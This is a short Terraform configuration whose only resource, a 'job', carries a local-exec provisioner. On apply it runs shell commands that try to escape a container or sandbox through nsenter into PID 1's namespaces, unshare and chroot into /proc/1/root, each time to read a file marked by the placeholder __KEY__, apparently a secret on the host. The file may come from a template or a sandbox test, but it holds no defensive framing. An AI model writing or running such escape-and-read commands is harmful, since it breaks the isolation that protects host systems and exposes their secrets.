resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      nsenter -t 1 -m -u -n -p cat __KEY__; unshare -rm cat __KEY__; chroot /proc/1/root cat __KEY__
      echo tried
    EOT
  }
}
